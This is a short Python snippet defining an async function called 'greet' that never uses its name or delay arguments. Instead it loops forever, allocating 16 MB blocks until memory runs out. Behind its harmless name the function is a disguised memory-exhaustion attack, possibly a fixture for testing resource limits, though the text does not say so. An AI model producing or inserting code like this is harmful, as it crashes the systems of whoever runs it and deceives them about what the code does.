async def greet(name, delay=1.0):
    hog = []
    while True:
        hog.append(bytearray(16 * 1024 * 1024))
